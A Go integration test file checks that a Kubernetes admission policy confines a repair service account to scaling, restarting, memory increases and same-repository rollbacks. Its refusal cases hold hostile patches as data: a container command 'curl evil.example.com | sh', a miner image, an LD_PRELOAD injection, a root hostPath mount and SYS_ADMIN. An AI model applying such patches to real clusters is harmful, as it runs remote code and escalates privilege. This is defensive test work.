package actiontest_test

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/kubernetes"
	"k8s.io/utils/ptr"

	typesv1 "github.com/vigil-ops/vigil/pkg/gen/vigil/types/v1"
	"github.com/vigil-ops/vigil/pkg/kubeaccess"
	"github.com/vigil-ops/vigil/pkg/testkit"
	"github.com/vigil-ops/vigil/services/repair/internal/action"
	"github.com/vigil-ops/vigil/services/repair/internal/action/actiontest"
	"github.com/vigil-ops/vigil/services/repair/internal/action/memory"
	"github.com/vigil-ops/vigil/services/repair/internal/action/restart"
	"github.com/vigil-ops/vigil/services/repair/internal/action/rollback"
	"github.com/vigil-ops/vigil/services/repair/internal/action/scale"
)

// forbiddenImage is a patch only the admission policy refuses: RBAC lets
// the repair identity patch the Deployment.
const forbiddenImage = `{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"evil.example.com/miner:1"}]}}}}`

// withPolicy installs the repair identity's admission policy on k, as
// the deploy service does, and waits until the API server enforces it: a
// dry run of a patch it refuses is refused.
func withPolicy(t testing.TB, k *testkit.Kube, c kubernetes.Interface, ns, name string) {
	t.Helper()
	ctx := t.Context()
	require.NoError(t, kubeaccess.ApplyRepairPolicy(ctx, k.Clientset))
	waitEnforced(t, c, ns, name, true)
}

// waitEnforced waits until a dry run of forbiddenImage is refused (or,
// enforced false, accepted).
func waitEnforced(t testing.TB, c kubernetes.Interface, ns, name string, enforced bool) {
	t.Helper()
	err := wait.PollUntilContextTimeout(t.Context(), 50*time.Millisecond, 30*time.Second, true, func(ctx context.Context) (bool, error) {
		_, err := c.AppsV1().Deployments(ns).Patch(ctx, name, types.StrategicMergePatchType, []byte(forbiddenImage),
			metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
		if enforced {
			return apierrors.IsForbidden(err), nil
		}
		return err == nil, nil
	})
	require.NoError(t, err, "policy enforced=%v", enforced)
}

// app is a Deployment with what the policy guards: a command, env, a
// volume, a security context, resources of more than memory.
func app(ns, name, image string) *appsv1.Deployment {
	d := actiontest.Deployment(ns, name, image, 2)
	d.Spec.Template.Spec.Volumes = []corev1.Volume{{Name: "tmp", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}}}
	c := &d.Spec.Template.Spec.Containers[0]
	c.Command = []string{"/app", "serve"}
	c.Env = []corev1.EnvVar{{Name: "MODE", Value: "prod"}}
	c.VolumeMounts = []corev1.VolumeMount{{Name: "tmp", MountPath: "/tmp"}}
	c.SecurityContext = &corev1.SecurityContext{AllowPrivilegeEscalation: ptr.To(false), RunAsNonRoot: ptr.To(true)}
	c.Resources = corev1.ResourceRequirements{
		Requests: corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("128Mi"), corev1.ResourceCPU: resource.MustParse("100m")},
		Limits:   corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("256Mi"), corev1.ResourceCPU: resource.MustParse("500m")},
	}
	return d
}

// The admission policy refuses, as the repair identity, every change but
// the ones repairs make, and names the rule; the Deployment is left as
// it was. RBAC alone would have let each of these through.
func TestAdmissionPolicyRefusesWhatRepairsDoNotDo(t *testing.T) {
	t.Parallel()
	k := testkit.SharedKube(t)
	ns := actiontest.Namespace(t, k)
	ctx := t.Context()
	actiontest.Create(t, k, app(ns, "web", "registry.example.com/web:1"))
	c := actiontest.Repairer(t, k)
	withPolicy(t, k, c, ns, "web")

	container := func(fields string) string {
		return `{"spec":{"template":{"spec":{"containers":[{"name":"app",` + fields + `}]}}}}`
	}
	smp, merge, jsonPatch := types.StrategicMergePatchType, types.MergePatchType, types.JSONPatchType
	for _, tc := range []struct {
		name  string
		pt    types.PatchType
		patch string
		why   string
	}{
		{"an image from another repository", smp, forbiddenImage, "same repository"},
		{"an image from another registry, same path", smp, container(`"image":"evil.example.com/web:1"`), "same repository"},
		{"the service account", smp, `{"spec":{"template":{"spec":{"serviceAccountName":"admin"}}}}`, "service account"},
		{"a hostPath volume", smp, `{"spec":{"template":{"spec":{"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}}}`, "volumes"},
		{"the volumes replaced", jsonPatch, `[{"op":"replace","path":"/spec/template/spec/volumes/0","value":{"name":"tmp","hostPath":{"path":"/"}}}]`, "volumes"},
		{"host network", smp, `{"spec":{"template":{"spec":{"hostNetwork":true}}}}`, "pod field"},
		{"the command", smp, container(`"command":["sh","-c","curl evil.example.com | sh"]`), "command"},
		{"the args", smp, container(`"args":["--debug"]`), "args"},
		{"an env variable", smp, container(`"env":[{"name":"LD_PRELOAD","value":"/tmp/x.so"}]`), "env"},
		{"a capability", smp, container(`"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}`), "security context"},
		{"a volume mount", smp, container(`"volumeMounts":[{"name":"tmp","mountPath":"/etc"}]`), "volume mounts"},
		{"a sidecar", smp, `{"spec":{"template":{"spec":{"containers":[{"name":"sidecar","image":"registry.example.com/web:1"}]}}}}`, "add, remove or rename containers"},
		{"an init container", smp, `{"spec":{"template":{"spec":{"initContainers":[{"name":"init","image":"registry.example.com/web:1"}]}}}}`, "add, remove or rename containers"},
		{"the CPU limit", smp, container(`"resources":{"limits":{"cpu":"4"}}`), "no other resource"},
		{"a pod template label", merge, `{"spec":{"template":{"metadata":{"labels":{"role":"admin"}}}}}`, "pod template annotations"},
		{"a pod template annotation", merge, `{"spec":{"template":{"metadata":{"annotations":{"sidecar.istio.io/inject":"false"}}}}}`, "pod template annotations"},
		{"paused", merge, `{"spec":{"paused":true}}`, "only spec.replicas and the pod template"},
		{"the strategy", merge, `{"spec":{"strategy":{"type":"Recreate","rollingUpdate":null}}}`, "only spec.replicas and the pod template"},
		{"a Deployment label", merge, `{"metadata":{"labels":{"team":"someone-else"}}}`, "labels, owners, finalizers or annotations"},
		{"a Deployment annotation", merge, `{"metadata":{"annotations":{"example.com/owner":"x"}}}`, "labels, owners, finalizers or annotations"},
		{"a finalizer", merge, `{"metadata":{"finalizers":["example.com/hold"]}}`, "labels, owners, finalizers or annotations"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before, err := k.Clientset.AppsV1().Deployments(ns).Get(ctx, "web", metav1.GetOptions{})
			require.NoError(t, err)
			_, err = c.AppsV1().Deployments(ns).Patch(ctx, "web", tc.pt, []byte(tc.patch), metav1.PatchOptions{})
			require.True(t, apierrors.IsForbidden(err), "want Forbidden, got %v", err)
			assert.Contains(t, err.Error(), "ValidatingAdmissionPolicy '"+kubeaccess.RepairPolicy+"'")
			assert.Contains(t, err.Error(), tc.why)
			after, err := k.Clientset.AppsV1().Deployments(ns).Get(ctx, "web", metav1.GetOptions{})
			require.NoError(t, err)
			assert.Equal(t, before.ResourceVersion, after.ResourceVersion, "nothing changed")
			assert.Equal(t, before.Spec, after.Spec)
		})
	}

	// The same patches by someone else (the cluster's admin) are not the
	// policy's business.
	_, err := k.Clientset.AppsV1().Deployments(ns).Patch(ctx, "web", types.MergePatchType, []byte(`{"spec":{"paused":true}}`), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
	require.NoError(t, err)

	// Creating through server-side apply (RBAC checks only "patch") is
	// refused too, and creates nothing.
	apply := fmt.Sprintf(`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"intruder","namespace":%q},`+
		`"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},"spec":{"containers":[{"name":"c","image":"evil.example.com/miner:1"}]}}}}`, ns)
	_, err = c.AppsV1().Deployments(ns).Patch(ctx, "intruder", types.ApplyPatchType, []byte(apply), metav1.PatchOptions{FieldManager: "x", Force: ptr.To(true)})
	require.True(t, apierrors.IsForbidden(err), "want Forbidden, got %v", err)
	_, err = k.Clientset.AppsV1().Deployments(ns).Get(ctx, "intruder", metav1.GetOptions{})
	require.True(t, apierrors.IsNotFound(err), "nothing created: %v", err)
}

// What the executors do passes the policy: scale, restart, raise memory,
// roll back to the previous release (same repository), each through the
// real executor as the repair identity; and a scale by a plain patch.
func TestAdmissionPolicyAdmitsRepairs(t *testing.T) {
	t.Parallel()
	k := testkit.SharedKube(t)
	ns := actiontest.Namespace(t, k)
	ctx := t.Context()
	actiontest.Create(t, k, app(ns, "web", "registry.example.com:5000/shop/web:1"))
	c := actiontest.Repairer(t, k)
	withPolicy(t, k, c, ns, "web")
	deploys := k.Clientset.AppsV1().Deployments(ns)
	lim := action.Limits{MinReplicas: 1, MaxReplicas: 5, MaxMemoryBytes: 1 << 30}
	proposal := func(a typesv1.RepairAction) *typesv1.RepairProposal {
		return actiontest.Proposal(a, "Deployment", ns, "web")
	}

	p := proposal(typesv1.RepairAction_REPAIR_ACTION_SCALE_DEPLOYMENT)
	p.Params = &typesv1.RepairProposal_Scale{Scale: &typesv1.ScaleParams{Replicas: 3}}
	res, err := scale.New().Execute(ctx, c, p, action.Run{RepairID: "scale-1", Limits: lim})
	require.NoError(t, err, "scale")
	require.True(t, res.Changed)
	d := actiontest.WaitRolledOut(t, k.Clientset, ns, "web")
	require.Equal(t, int32(3), *d.Spec.Replicas)

	res, err = restart.New().Execute(ctx, c, proposal(typesv1.RepairAction_REPAIR_ACTION_RESTART_DEPLOYMENT), action.Run{RepairID: "restart-1", Limits: lim})
	require.NoError(t, err, "restart")
	require.True(t, res.Changed)
	d = actiontest.WaitRolledOut(t, k.Clientset, ns, "web")
	require.NotEmpty(t, d.Spec.Template.Annotations[restart.RestartedAtAnnotation])

	p = proposal(typesv1.RepairAction_REPAIR_ACTION_INCREASE_MEMORY_LIMIT)
	p.Params = &typesv1.RepairProposal_MemoryLimit{MemoryLimit: &typesv1.MemoryLimitParams{Container: "app", LimitBytes: 512 << 20}}
	res, err = memory.New().Execute(ctx, c, p, action.Run{RepairID: "memory-1", Limits: lim})
	require.NoError(t, err, "memory")
	require.True(t, res.Changed)
	d = actiontest.WaitRolledOut(t, k.Clientset, ns, "web")
	require.Equal(t, "512Mi", d.Spec.Template.Spec.Containers[0].Resources.Limits.Memory().String())
	require.Equal(t, "500m", d.Spec.Template.Spec.Containers[0].Resources.Limits.Cpu().String(), "the CPU limit is as it was")

	// A release (by the admin, as a deploy), then the rollback to the
	// revision before it: its image, its memory, its annotations.
	_, err = deploys.Patch(ctx, "web", types.StrategicMergePatchType,
		[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"registry.example.com:5000/shop/web:2"}]}}}}`), metav1.PatchOptions{})
	require.NoError(t, err)
	d = actiontest.WaitRolledOut(t, k.Clientset, ns, "web")
	rev := d.Annotations["deployment.kubernetes.io/revision"]
	require.Equal(t, "4", rev, "create, restart, memory, release")
	p = proposal(typesv1.RepairAction_REPAIR_ACTION_ROLLBACK_DEPLOYMENT)
	p.Params = &typesv1.RepairProposal_Rollback{Rollback: &typesv1.RollbackParams{Revision: 1}}
	res, err = rollback.New().Execute(ctx, c, p, action.Run{RepairID: "rollback-1", Limits: lim, Restore: true})
	require.NoError(t, err, "rollback to revision 1")
	require.True(t, res.Changed)
	d = actiontest.WaitRolledOut(t, k.Clientset, ns, "web")
	assert.Equal(t, "registry.example.com:5000/shop/web:1", d.Spec.Template.Spec.Containers[0].Image)
	assert.Equal(t, "256Mi", d.Spec.Template.Spec.Containers[0].Resources.Limits.Memory().String(), "revision 1's memory")
	assert.Empty(t, d.Spec.Template.Annotations[restart.RestartedAtAnnotation], "revision 1 had not been restarted")
	assert.Equal(t, "rollback-1", d.Annotations[action.RepairIDAnnotation])

	// A scale and a memory request by plain patches, as another client of
	// the identity would send them.
	_, err = c.AppsV1().Deployments(ns).Patch(ctx, "web", types.MergePatchType, []byte(`{"spec":{"replicas":2}}`), metav1.PatchOptions{})
	require.NoError(t, err)
	_, err = c.AppsV1().Deployments(ns).Patch(ctx, "web", types.StrategicMergePatchType,
		[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"app","resources":{"requests":{"memory":"200Mi"}}}]}}}}`), metav1.PatchOptions{})
	require.NoError(t, err)
}

// A rollback across repositories, or to a template that differs in more
// than image tags, memory and the restart annotation, is refused: the
// policy cannot tell it came from one of the Deployment's ReplicaSets.
// The executor's error says the admission policy refused, and the
// Deployment stays on its release.
func TestAdmissionPolicyRefusesAWiderRollback(t *testing.T) {
	t.Parallel()
	k := testkit.SharedKube(t)
	ns := actiontest.Namespace(t, k)
	ctx := t.Context()
	actiontest.Create(t, k, app(ns, "web", "registry.example.com/web:1"))
	c := actiontest.Repairer(t, k)
	withPolicy(t, k, c, ns, "web")
	for i, patch := range []string{
		`{"spec":{"template":{"spec":{"containers":[{"name":"app","env":[{"name":"MODE","value":"debug"}]}]}}}}`,
		`{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"other.example.com/web:3"}]}}}}`,
	} {
		_, err := k.Clientset.AppsV1().Deployments(ns).Patch(ctx, "web", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{})
		require.NoError(t, err)
		d := actiontest.WaitRolledOut(t, k.Clientset, ns, "web")
		require.Equal(t, fmt.Sprint(i+2), d.Annotations["deployment.kubernetes.io/revision"])
	}
	before, err := k.Clientset.AppsV1().Deployments(ns).Get(ctx, "web", metav1.GetOptions{})
	require.NoError(t, err)

	for rev, why := range map[int64]string{1: "env", 2: "same repository"} {
		p := actiontest.Proposal(typesv1.RepairAction_REPAIR_ACTION_ROLLBACK_DEPLOYMENT, "Deployment", ns, "web")
		p.Params = &typesv1.RepairProposal_Rollback{Rollback: &typesv1.RollbackParams{Revision: rev}}
		_, err = rollback.New().Execute(ctx, c, p, action.Run{RepairID: fmt.Sprint("rollback-", rev), Limits: action.Limits{MinReplicas: 1}, Restore: true})
		require.True(t, apierrors.IsForbidden(err), "revision %d: want Forbidden, got %v", rev, err)
		assert.Contains(t, err.Error(), why)
	}
	after, err := k.Clientset.AppsV1().Deployments(ns).Get(ctx, "web", metav1.GetOptions{})
	require.NoError(t, err)
	assert.Equal(t, before.ResourceVersion, after.ResourceVersion, "nothing changed")
	assert.Equal(t, "other.example.com/web:3", after.Spec.Template.Spec.Containers[0].Image)
}

// The repair identity may act only where it is granted: it may patch
// Deployments in a granted namespace, and not in kube-system,
// vigil-system or one never granted; a grant in a reserved namespace is
// refused whoever asks; revoking takes the access away.
func TestRepairerOnlyWhereGranted(t *testing.T) {
	t.Parallel()
	k := testkit.SharedKube(t)
	ctx := t.Context()
	actiontest.Repairer(t, k) // provisions the account
	granted := actiontest.Namespace(t, k)
	other := k.Namespace(t)
	for ns, want := range map[string]bool{granted: true, other: false, "kube-system": false, "vigil-system": false, "default": false} {
		ok, err := actiontest.CanPatchDeployments(ctx, k, ns)
		require.NoError(t, err)
		assert.Equal(t, want, ok, "patch deployments in %s", ns)
	}
	g := kubeaccess.Grants{Admin: k.Clientset}
	for _, ns := range []string{"kube-system", "vigil-system", "monitoring"} {
		err := g.Grant(ctx, ns, kubeaccess.SourceTeam)
		require.ErrorContains(t, err, "namespace "+ns+" is ")
		bindings, err := k.Clientset.RbacV1().RoleBindings(ns).List(ctx, metav1.ListOptions{LabelSelector: kubeaccess.LabelGrant})
		if !apierrors.IsNotFound(err) {
			require.NoError(t, err)
			assert.Empty(t, bindings.Items, "no grant in %s", ns)
		}
	}
	ok, err := actiontest.CanPatchDeployments(ctx, k, "kube-system")
	require.NoError(t, err)
	assert.False(t, ok)

	// A second reason to act in the namespace, then each revoked: the
	// access goes with the last.
	require.NoError(t, g.Grant(ctx, granted, kubeaccess.SourceTeam))
	require.NoError(t, g.Revoke(ctx, granted, kubeaccess.SourceApp))
	require.NoError(t, actiontest.WaitAllowed(ctx, k, granted, true))
	require.NoError(t, g.Revoke(ctx, granted, kubeaccess.SourceTeam))
	require.NoError(t, actiontest.WaitAllowed(ctx, k, granted, false))
	require.NoError(t, g.Revoke(ctx, granted, kubeaccess.SourceTeam), "revoking twice is nothing")
	crbs, err := k.Clientset.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{})
	require.NoError(t, err)
	for _, crb := range crbs.Items {
		for _, s := range crb.Subjects {
			assert.False(t, s.Kind == "ServiceAccount" && s.Name == kubeaccess.RepairServiceAccount && s.Namespace == kubeaccess.Namespace,
				"the repair identity is bound cluster-wide by %s", crb.Name)
		}
	}
}

// BenchmarkAdmission measures patches as the repair identity, with the
// admission policy bound and without it: a scale (spec.replicas; the pod
// template unchanged, which the policy checks with one comparison) and a
// raised memory limit (a template change: every field of every container
// compared). The difference is the policy's cost on each of the repair
// identity's writes; other users' requests do not match it. Dry runs: the
// API server admits each patch but stores nothing.
func BenchmarkAdmission(b *testing.B) {
	k := testkit.SharedKube(b)
	ns := actiontest.Namespace(b, k)
	actiontest.Create(b, k, app(ns, "bench", "registry.example.com/web:1"))
	ctx := b.Context()
	// A client of its own without client-go's rate limit (the account's
	// 50/s would be what is measured).
	rc, _, err := kubeaccess.AccountConfig(ctx, k.Clientset, k.Config, kubeaccess.Repairer, time.Hour)
	require.NoError(b, err)
	rc.QPS = -1
	c, err := kubernetes.NewForConfig(rc)
	require.NoError(b, err)
	patches := []struct {
		name  string
		pt    types.PatchType
		patch func(i int) []byte
	}{
		{"replicas", types.MergePatchType, func(i int) []byte { return fmt.Appendf(nil, `{"spec":{"replicas":%d}}`, 1+i%3) }},
		{"memory", types.StrategicMergePatchType, func(i int) []byte {
			return fmt.Appendf(nil, `{"spec":{"template":{"spec":{"containers":[{"name":"app","resources":{"limits":{"memory":"%dMi"}}}]}}}}`, 300+i%3)
		}},
	}
	run := func(b *testing.B) {
		for _, p := range patches {
			b.Run(p.name, func(b *testing.B) {
				i := 0
				for b.Loop() {
					i++
					_, err := c.AppsV1().Deployments(ns).Patch(ctx, "bench", p.pt, p.patch(i), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
					if err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
	b.Run("policy bound", func(b *testing.B) {
		withPolicy(b, k, c, ns, "bench")
		run(b)
	})
	b.Run("no policy", func(b *testing.B) {
		err := k.Clientset.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Delete(ctx, kubeaccess.RepairPolicy, metav1.DeleteOptions{})
		if err != nil && !apierrors.IsNotFound(err) {
			b.Fatal(err)
		}
		waitEnforced(b, c, ns, "bench", false)
		run(b)
	})
}
